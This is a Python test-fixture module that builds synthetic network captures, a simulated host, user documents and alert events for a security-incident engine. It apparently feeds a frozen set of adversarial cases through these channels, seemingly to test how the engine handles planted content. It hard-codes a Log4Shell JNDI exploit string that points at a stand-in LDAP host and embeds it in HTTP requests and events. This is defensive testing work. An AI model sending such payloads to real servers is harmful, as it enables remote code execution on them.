"""Puts a case of the frozen set where its carrier says: into a capture, the host's answers, or the documents."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from engine.types import (
    AddressFacts,
    Disposition,
    FileFacts,
    Finding,
    FiveTuple,
    Frame,
    Login,
    Logins,
    Passage,
    PastIncident,
    PastIncidents,
    Persistence,
    PersistencePoint,
    ProcessFacts,
    ReportedEvent,
    Service,
    Services,
    Severity,
    SocketOwner,
)
from tests.factories import ACK, ATTACKER, FIN, PSH, SERVER, SYN, frame, ipv4, tcp, udp

SET = Path(__file__).parent / "set"
EXPLOIT = b"${jndi:ldap://198.51.100.7:1389/a}"
PID, START = 4242, 1000.5


@cache
def cases() -> tuple[dict[str, Any], ...]:
    """Return every case of the frozen set."""
    return tuple(json.loads(line) for line in (SET / "cases.jsonl").read_text(encoding="utf-8").splitlines())


def pieces(case: dict[str, Any], *fields: str) -> list[bytes]:
    """Return what a case puts into one of these fields, in order."""
    return [base64.b64decode(one["b64"]) for one in case["pieces"] if one["field"] in fields]


def text(case: dict[str, Any], field_name: str) -> str:
    """Return what a case puts into a field, as one text."""
    return "".join(piece.decode("utf-8", "backslashreplace") for piece in pieces(case, field_name))


def talk(number: int, port: int, chunks: Iterable[tuple[bool, bytes]]) -> list[Frame]:
    """Return a whole TCP connection; each chunk is whether the client sends it, and its bytes."""
    there, back = (40000 + number, port), (port, 40000 + number)
    at = 1000.0 + number / 100
    segments = [(True, tcp(*there, seq=100, flags=SYN)), (False, tcp(*back, seq=500, ack=101, flags=SYN | ACK))]
    segments.append((True, tcp(*there, seq=101, ack=501)))
    sent = {True: 101, False: 501}
    for by_client, chunk in chunks:
        ends = there if by_client else back
        for start in range(0, len(chunk), 1200):
            part = chunk[start : start + 1200]
            seq, ack = sent[by_client], sent[not by_client]
            segments.append((by_client, tcp(*ends, seq=seq, ack=ack, flags=PSH | ACK, payload=part)))
            sent[by_client] += len(part)
    segments.append((True, tcp(*there, seq=sent[True], ack=sent[False], flags=FIN | ACK)))
    segments.append((False, tcp(*back, seq=sent[False], ack=sent[True] + 1, flags=FIN | ACK)))
    return [
        frame(ipv4(segment) if by_client else ipv4(segment, src=SERVER, dst=ATTACKER), at + step / 1000)
        for step, (by_client, segment) in enumerate(segments)
    ]


def request(case: dict[str, Any], number: int, body: bytes) -> bytes:
    """Return an exploit in a request that carries what the case puts into its parts."""
    method = b"".join(pieces(case, "http_method")) or b"POST" if body else b"GET"
    path = b"".join(pieces(case, "http_path")) or b"/shop"
    query = b"".join(pieces(case, "http_query"))
    agent = b"".join(pieces(case, "http_header_user_agent")) or b"curl/8.5"
    forwarded = b"".join(pieces(case, "http_header_x_forwarded_for"))
    other = b"".join(pieces(case, "http_header_other"))
    lines = [method + b" " + path + b"?q=" + EXPLOIT + b"&" + query + b" HTTP/1.1", b"Host: shop.example"]
    lines += [b"User-Agent: " + agent]
    lines += [b"X-Forwarded-For: " + forwarded] if forwarded else []
    lines += [b"X-Note: " + other] if other else []
    lines += [b"Content-Length: %d" % len(body)] if body else []
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def frames_of(case: dict[str, Any]) -> list[Frame]:
    """Return the capture of a case: the exploit as often as the case repeats, and what its carrier says on the wire."""
    frames: list[Frame] = []
    for number in range(max(1, min(case["repeat"], 8))):
        answer = b"".join(pieces(case, "http_answer_body")) or b"ok"
        bodies = pieces(case, "http_body")
        asked = request(case, number, b"".join(bodies))
        split = len(asked) - sum(map(len, bodies[1:]))
        chunks = [(True, asked[:split]), *((True, part) for part in bodies[1:])]
        reply = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(answer) + answer
        frames += talk(number, 8080, [*chunks, (False, reply)])
    frames += _banners(case)
    return sorted(frames, key=lambda one: one.ts)


_SERVER_SPEAKS = {"ssh_banner": 22, "smtp_banner": 25, "ftp_banner": 21, "tls_certificate": 443}
_CLIENT_SPEAKS = {"raw_payload": 9001, "tls_sni": 443, "tls_alpn": 443}


def _banners(case: dict[str, Any]) -> list[Frame]:
    frames: list[Frame] = []
    for number, (name, port) in enumerate({**_SERVER_SPEAKS, **_CLIENT_SPEAKS}.items(), 20):
        said = pieces(case, name)
        if said:
            frames += talk(number, port, [(name in _CLIENT_SPEAKS, piece) for piece in said])
    for number, piece in enumerate([*pieces(case, "dns_name"), *pieces(case, "dns_txt")]):
        at = 1000.1 + number / 100
        asked = _question(number, piece)
        frames.append(frame(ipv4(udp(50000 + number, 53, asked), 17), at))
        frames.append(frame(ipv4(udp(53, 50000 + number, _answer(asked, piece)), 17, SERVER, ATTACKER), at + 0.01))
    return frames


def _question(number: int, name: bytes) -> bytes:
    labels = b"".join(bytes((len(label[:63]),)) + label[:63] for label in name[:250].split(b".") if label)
    return number.to_bytes(2, "big") + b"\x01\x00\x00\x01" + b"\x00" * 6 + labels + b"\x00\x00\x10\x00\x01"


def _answer(asked: bytes, content: bytes) -> bytes:
    strings = b"".join(
        bytes((len(content[at : at + 255]),)) + content[at : at + 255] for at in range(0, len(content), 255)
    )
    record = b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x3c" + len(strings).to_bytes(2, "big") + strings
    return asked[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + asked[12:] + record


@dataclass
class CarryingHost:
    """A host whose processes, logs and records hold what a case puts there; it remembers what it was asked."""

    case: dict[str, Any]
    asked: list[tuple[Any, ...]] = field(default_factory=list)

    def _said(self, name: str, otherwise: str) -> str:
        return text(self.case, name) or otherwise

    def socket_owner(self, five_tuple: FiveTuple) -> SocketOwner:
        self.asked.append(("socket_owner", *five_tuple))
        return SocketOwner(Finding.FOUND, PID, START, self._said("process_comm", "java"))

    def process(self, pid: int, start_time: float) -> ProcessFacts:
        self.asked.append(("process", pid, start_time))
        cmdline = tuple(self._said("process_cmdline", "java\0-jar\0shop.jar").split("\0"))
        comm = self._said("process_comm", "java")
        return ProcessFacts(
            Finding.FOUND, pid, 1, START, 1000, "app", comm, self._said("process_exe", "/usr/bin/java"),
            cmdline=cmdline, cwd=self._said("process_cwd", "/srv/shop"),
            unit=self._said("systemd_unit", "") or self._said("container_name", "shop.service"),
            parents=("1 systemd",), children=(f"4300 {comm}",),
        )  # fmt: skip

    def services(self) -> Services:
        return Services(Finding.FOUND, (Service("tcp", "0.0.0.0", 8080, PID, self._said("process_comm", "java")),))

    def logins(self, ip: str) -> Logins:
        self.asked.append(("logins", ip))
        lines = [piece.decode("utf-8", "backslashreplace") for piece in pieces(self.case, "auth_log_line")]
        entries = [Login(line, ip, False, "password", 1, 1000.0, 1000.0) for line in lines]
        return Logins(Finding.FOUND, tuple(entries))

    def program_file(self, pid: int, start_time: float) -> FileFacts:
        self.asked.append(("program_file", pid, start_time))
        return FileFacts(Finding.FOUND, pid, self._said("process_exe", "/usr/bin/java"), "root", "0755")

    def persistence(self) -> Persistence:
        excerpt = text(self.case, "cron_entry")
        points = (PersistencePoint("cron", "/etc/cron.d/shop", 10.0, "root", excerpt),) if excerpt else ()
        return Persistence(Finding.FOUND, points)

    def address(self, ip: str) -> AddressFacts:
        self.asked.append(("address", ip))
        names = tuple(piece.decode("utf-8", "backslashreplace") for piece in pieces(self.case, "ptr_name", "dns_name"))
        return AddressFacts(Finding.FOUND, ip, "documentation", names=names)

    def past_incidents(self, ip: str) -> PastIncidents:
        self.asked.append(("past_incidents", ip))
        title = text(self.case, "earlier_incident")
        past = PastIncident("INC-00000001", 1.0, title, Severity.LOW, Disposition.UNDETERMINED)
        return PastIncidents(Finding.FOUND, (past,) if title else ())


def passages_of(case: dict[str, Any]) -> list[Passage]:
    """Return a document of the user's that holds what the case puts into documents."""
    said = text(case, "knowledge_document")
    return [Passage("K-0123456789", said[:80], said, "notes.md", 0.99)] if said else []


def event_of(case: dict[str, Any]) -> ReportedEvent | None:
    """Return the reported event of a case, where its carrier is one."""
    name, content = text(case, "event_name"), text(case, "event_content")
    if not (name or content):
        return None
    return ReportedEvent(
        1000.0, ATTACKER, 40000, SERVER, 8080, name or "Log4Shell-attempt", content or EXPLOIT.decode(), "tcp"
    )
